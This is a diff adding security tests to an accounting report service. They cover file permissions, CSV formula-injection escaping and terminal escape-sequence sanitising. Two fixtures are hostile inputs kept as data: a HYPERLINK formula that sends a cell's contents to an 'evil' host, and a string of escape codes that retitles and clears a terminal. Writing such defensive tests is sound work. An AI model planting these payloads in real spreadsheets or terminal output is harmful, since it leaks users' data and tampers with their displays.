@@ -59,3 +59,42 @@ def test_a_report_request_cannot_ask_a_rollup_of_centuries(db_connection: Any, q
     with session_scope() as s:
         outcome = report_events(s, [request])
     assert outcome.parked == 1 and outcome.recorded == 0
+
+
+def test_statement_files_are_for_the_reporter_and_its_group_alone(db_connection: Any, quickstart: None) -> None:
+    import stat
+
+    from services.reporter.tasks import statement_files
+    from shared.db import session_scope
+
+    with session_scope() as s:
+        directory = statement_files(s, "2026-10")
+    assert stat.S_IMODE(directory.stat().st_mode) == stat.S_IMODE(directory.parent.stat().st_mode) == 0o750
+    assert {stat.S_IMODE(f.stat().st_mode) for f in directory.iterdir()} == {0o640}
+
+
+def test_a_description_that_starts_like_a_formula_stays_text_in_csv(db_connection: Any, quickstart: None) -> None:
+    from openacct.shortcuts import charge, deposit
+    from services.reporter import render
+    from services.reporter.statements import month, statements
+    from shared.db import session_scope
+
+    deposit("phys", "10", start="2026-01-01")
+    charge("phys", "cluster-core-hours", "1", effective_at="2026-10-05T00:00:00Z",
+           description='=HYPERLINK("http://evil/?"&A1,"refund")')
+    with session_scope() as s:
+        [phys] = statements(s, *month("2026-10"), ["phys"])
+    text = render.to_csv(phys)
+    assert "'=HYPERLINK" in text and "\n=" not in text and ",=" not in text
+    assert ",-0.05," in text  # an amount stays a number
+
+
+def test_terminal_escapes_in_what_users_wrote_reach_no_terminal_raw(capsys: pytest.CaptureFixture[str]) -> None:
+    from openacct.cli.output import done, emit_rows
+
+    evil = "ok\x1b]0;owned\x07\x1b[2J\x9b31m"  # retitle the window, clear the screen, (C1) colour
+    emit_rows([{"description": evil}], ["description"], as_json=False)
+    done(f"parked: {evil}")
+    out = capsys.readouterr().out
+    assert "\x1b]0;" not in out and "\x1b[2J" not in out and "\x9b" not in out and "\x07" not in out
+    assert out.count("\\x1b]0;owned\\x07\\x1b[2J\\x9b31m") == 2
